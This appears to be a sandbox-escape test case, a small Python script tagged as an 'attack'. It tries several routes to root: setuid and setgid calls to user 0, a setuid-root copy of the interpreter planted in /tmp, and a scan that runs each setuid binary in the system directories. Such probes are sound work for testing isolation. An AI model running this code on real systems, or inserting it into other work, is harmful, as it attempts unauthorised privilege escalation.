# /// attack
# tries = "becomes root by set-user-id files of its own and of the system, by setuid calls, and by capabilities"
# base = "blank"
# slow = true
# ///
import os
import subprocess

for call in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0]), lambda: os.setresuid(0, 0, 0)):
    try:
        call()
        print("WORKED", flush=True)
    except OSError:
        pass
with open("/tmp/sh", "wb") as file:
    file.write(open("/proc/self/exe", "rb").read(1 << 20))
try:
    os.chmod("/tmp/sh", 0o6755)
    os.chown("/tmp/sh", 0, 0)
except OSError:
    pass
for top in ("/bin", "/usr/bin", "/sbin"):
    for name in os.listdir(top) if os.path.isdir(top) else ():
        try:
            if os.stat(f"{top}/{name}").st_mode & 0o6000:
                print(name, subprocess.run([f"{top}/{name}", "--help"], capture_output=True, timeout=1).returncode)
        except (OSError, subprocess.SubprocessError):
            pass
